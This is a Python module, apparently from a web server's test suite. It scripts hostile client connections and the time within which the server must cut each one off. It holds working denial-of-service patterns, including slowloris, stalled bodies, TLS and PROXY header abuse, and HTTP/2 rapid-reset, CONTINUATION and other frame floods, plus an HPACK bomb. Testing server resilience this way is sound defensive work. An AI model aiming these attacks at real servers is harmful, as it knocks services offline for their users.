"""What hostile clients do on one connection. Each yields what to send next and how long to wait then; it is over when it is cut off."""

import functools
import itertools
import struct
from collections import namedtuple

import frames as h2
from frames import frame, head, literal

# listener: which one it comes to. at_once: connections side by side. ends: within how many seconds each must be cut off, by the times of
# the config; 0: it need not be, but must not cost much. sends: what is counted of it. streams: 0 if the connection has to end, else how many answers or streams
# have to. reads: whether it reads what comes; if not, it looks after its time how much there is.
Attack = namedtuple("Attack", "play listener at_once ends sends streams reads", defaults=("", 0, True))

HEAD, IDLE, RESPONSE = 3, 5, 5  # seconds, as in the config
GRACE = 5
AT_ONCE = 5
BATCH, TICK = 100, 0.1  # frames at once, and how often: a flood, and yet the others on the machine live
DRIBBLE = 0.4
GET = b"GET %s HTTP/1.1\r\nHost: shop.test\r\n"
HELLO = bytes.fromhex("1603010200010001fc0303")  # of TLS: 512 bytes are to follow


def dribble(data, first=b""):
    yield first, 0
    for byte in data:
        yield bytes((byte,)), DRIBBLE


def once(data):
    yield data, 0
    while True:
        yield b"", DRIBBLE


def slow_head():
    yield GET % b"/", DRIBBLE
    for number in itertools.count():
        yield b"X-%d: a\r\n" % number, DRIBBLE


def stalled_body():
    return once(b"POST /hang HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 1000000\r\n\r\nabc")


def dribbled_body():
    yield b"POST /hang HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 1000000\r\n\r\n", DRIBBLE
    while True:
        yield b"x", DRIBBLE


def unread():
    return once(GET % b"/big.bin" + b"\r\n")


def pipelined():
    request = GET % b"/quarter.bin" + b"\r\n"
    while True:
        yield request * 20, DRIBBLE


def hanging_endpoint():
    return once(GET % b"/hang" + b"\r\n")


def dripping_endpoint():
    return once(GET % b"/drip/big.bin" + b"\r\n")


def flood(counted, one, first=b"", ends=AT_ONCE):
    """Frames, or streams, without end, made by their number."""

    @functools.cache
    def batch(start):
        return b"".join(one(number) for number in range(start, start + BATCH))

    def play():
        yield h2.PREFACE + h2.settings() + first, 0
        for start in itertools.count(0, BATCH):
            yield batch(start), TICK

    return Attack(play, "web", 2, ends, counted)


def stream(number):
    return 2 * number + 1


def block(field):
    """A head that has no end."""
    return lambda number: frame(h2.HEADERS if number == 0 else h2.CONTINUATION, stream=1, payload=field)


def bomb():
    field = literal("x-a", "b" * 3900, 0x40)
    return once(h2.PREFACE + h2.settings() + frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, field + b"\xbe" * 8000))


def many_streams():
    return once(h2.PREFACE + h2.settings() + b"".join(head(stream(number), "/hang", "POST", ends=False) for number in range(300)))


def no_window():
    return once(h2.PREFACE + h2.settings(window=0) + b"".join(head(stream(number), "/big.bin") for number in range(20)))


def little_window():
    yield h2.PREFACE + h2.settings(window=1) + b"".join(head(stream(number), "/big.bin") for number in range(20)), DRIBBLE
    while True:
        yield b"".join(h2.window(stream(number), 1) for number in range(20)), DRIBBLE


def slow_frame():
    return dribble(head(1, **{"x-a": "a" * 100}), h2.PREFACE + h2.settings())


# The web listener takes HTTP/1.1, and HTTP/2 by prior knowledge.
ATTACKS = {
    "connects and says nothing": Attack(lambda: once(b""), "web", 10, HEAD),
    "slowloris: a head without end": Attack(slow_head, "web", 20, HEAD, "lines"),
    "a body that stalls": Attack(stalled_body, "web", 10, IDLE),
    "a body of some bytes a second": Attack(dribbled_body, "web", 10, 0),
    "16 MiB, unread": Attack(unread, "web", 10, IDLE, reads=False),
    "requests piled up, answers unread": Attack(pipelined, "web", 4, IDLE, reads=False),
    "an endpoint that hangs": Attack(hanging_endpoint, "web", 10, RESPONSE, streams=1),
    "an endpoint of 2 KiB/s": Attack(dripping_endpoint, "web", 10, 0),
    "TLS: hello without end": Attack(lambda: once(HELLO), "tls", 10, HEAD),
    "TLS: a byte at a time": Attack(lambda: dribble(HELLO + bytes(507)), "tls", 10, HEAD, "bytes"),
    "TLS: garbage": Attack(lambda: once(b"GET / HTTP/1.1\r\n\r\n"), "tls", 2, AT_ONCE),
    "PROXY: garbage": Attack(lambda: once(b"GET / HTTP/1.1\r\n\r\n"), "proxied", 2, AT_ONCE),
    "PROXY: 64 KiB of extras": Attack(lambda: once(b"\r\n\r\n\0\r\nQUIT\n\x21\x11\xff\xff" + bytes(60000)), "proxied", 2, AT_ONCE),
    "PROXY: never complete": Attack(lambda: once(b"PROXY TCP4 10.0.0.1 "), "proxied", 2, HEAD),
    "h2: slow preface": Attack(lambda: dribble(h2.PREFACE + h2.settings()), "web", 10, HEAD, "bytes"),
    "h2: slow HEADERS": Attack(slow_frame, "web", 10, HEAD, "bytes"),
    "h2: rapid reset": flood("streams", lambda n: head(stream(n)) + h2.reset(stream(n))),
    "h2: MadeYouReset, WINDOW_UPDATE 0": flood("streams", lambda n: head(stream(n), "/hang", "POST", ends=False) + h2.window(stream(n), 0)),
    "h2: DATA after the end": flood("streams", lambda n: head(stream(n)) + frame(h2.DATA, stream=stream(n), payload=b"x")),
    "h2: malformed heads": flood("streams", lambda n: head(stream(n), **{":foo": "bar"})),
    "h2: CONTINUATION": flood("frames", block(literal("x-a", "b" * 1000))),
    "h2: CONTINUATION, empty": flood("frames", block(b"")),
    "h2: SETTINGS": flood("frames", lambda n: frame(h2.SETTINGS)),
    "h2: PING": flood("frames", lambda n: frame(h2.PING, payload=bytes(8))),
    "h2: PRIORITY": flood("frames", lambda n: frame(h2.PRIORITY, stream=stream(n), payload=struct.pack("!IB", 0, 1))),
    "h2: WINDOW_UPDATE 1": flood("frames", lambda n: h2.window(0, 1), ends=12),
    "h2: unknown frames": flood("frames", lambda n: frame(h2.UNKNOWN, payload=b"x")),
    "h2: empty DATA": flood("frames", lambda n: frame(h2.DATA, stream=1), head(1, "/hang", "POST", ends=False)),
    "h2: HPACK bomb": Attack(bomb, "web", 2, AT_ONCE, streams=1),
    "h2: 300 streams at once": Attack(many_streams, "web", 2, IDLE, streams=300),
    "h2: no window": Attack(no_window, "web", 2, IDLE, streams=20),
    "h2: a window of a byte at a time": Attack(little_window, "web", 2, IDLE, streams=20),
}
